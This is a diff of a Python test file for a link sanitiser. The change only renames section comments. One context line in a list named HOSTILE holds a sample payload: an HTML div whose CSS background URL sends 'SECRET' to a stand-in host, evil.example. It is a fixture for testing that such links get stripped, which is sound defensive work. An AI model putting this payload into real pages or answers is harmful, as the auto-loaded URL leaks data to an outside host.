@@ -38,7 +38,7 @@ def cleaned(text: str) -> str:
     return without_unknown_links(text, EVIDENCE)
 
 
-# -- what a reader's program makes of a text --------------------------------------------------------------------------
+# -- links and loads in a text ----------------------------------------------------------------------------------------
 
 
 def strangers(text: str) -> list[tuple[str, str]]:
@@ -66,7 +66,7 @@ def strings(value: Any) -> Iterator[str]:
             yield from strings(one)
 
 
-# -- what is no honest link -------------------------------------------------------------------------------------------
+# -- dishonest links --------------------------------------------------------------------------------------------------
 
 HOSTILE = [
     '<div style="#;background:url(//evil.example/i?q=SECRET)">',
@@ -183,7 +183,7 @@ def test_pieces_of_links_in_any_order_make_none(text: str) -> None:
     assert strangers(cleaned(text)) == []
 
 
-# -- what an honest answer may hold -----------------------------------------------------------------------------------
+# -- honest answers ---------------------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(
